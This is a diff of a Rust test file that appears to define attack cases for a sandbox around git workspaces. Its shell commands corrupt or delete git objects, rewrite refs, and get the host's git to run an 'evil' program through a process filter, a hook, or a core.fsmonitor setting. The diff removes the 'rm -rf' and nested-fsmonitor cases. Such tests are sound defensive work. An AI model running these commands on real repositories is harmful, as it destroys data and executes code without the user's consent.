@@ -3,7 +3,7 @@
 use std::path::Path;
 
 use crate::attacker::Outcome;
-use crate::case::{Case, Control, Sign, case, q, read, sh, sys};
+use crate::case::{Case, Sign, case, q, read, sh, sys};
 use crate::world::World;
 
 /// All of I and J.
@@ -47,8 +47,6 @@ fn repository(world: &World) -> Vec<Case> {
         case("I07d", "remove it", sh(&format!("rm -f {pointer}")), Sign::Facts),
         case("I07e", "put another workspace in its place", sh(&format!("mv {w} {w}.old && mkdir {w}")), Sign::Facts),
         case("I14", "write into an object of everybody", sh(&format!("f=$(find {git}/objects -type f -path '*/??/*' | sort | head -1); chmod u+w $f; echo x >>$f")), Sign::Facts),
-        case("I14b", "remove the objects", sh(&format!("rm -rf {git}/objects/??")), Sign::Facts)
-            .control(Control::None("what it would destroy outside could not be put back in time; I14 is its control")),
         case("I13", "move main by git", sh(&format!("cd {w} && git -c safe.directory='*' update-ref refs/heads/main $(git -c safe.directory='*' commit-tree -m x HEAD^{{tree}})")), Sign::Facts),
     ]);
     cases
@@ -116,13 +114,10 @@ fn executed(world: &World) -> Vec<Case> {
         ("I09c", "a process filter", format!("g config filter.x.process {evil}; echo '* filter=x' >.gitattributes; echo x >>README.md")),
         ("I08", "a hook in its git directory", "d=$(g rev-parse --git-common-dir)/hooks; mkdir -p $d; cp evil $d/post-index-change; echo x >>README.md; g update-index --refresh".to_owned()),
     ];
-    let mut cases: Vec<_> = table
+    let cases: Vec<_> = table
         .into_iter()
         .map(|(id, what, script)| case(id, &format!("have the host's git execute something by {what}"), sh(&format!("{prologue}{script}")), Sign::Look(git_of_the_host)))
         .collect();
-    cases.push(case("I10", "a nested repository with a configuration", sh(&format!("{prologue} git init -q nested && git -C nested config core.fsmonitor {evil}; cd nested && touch f && git add f && git -c user.name=x -c user.email=x@x commit -qm x; cd .. && g add nested")), Sign::Look(|world, outcome| {
-        git_of_the_host(world, outcome)
-    })).control(Control::None("git itself looks into no nested repository that status is not told to; I11 is its control")));
     cases
 }
 
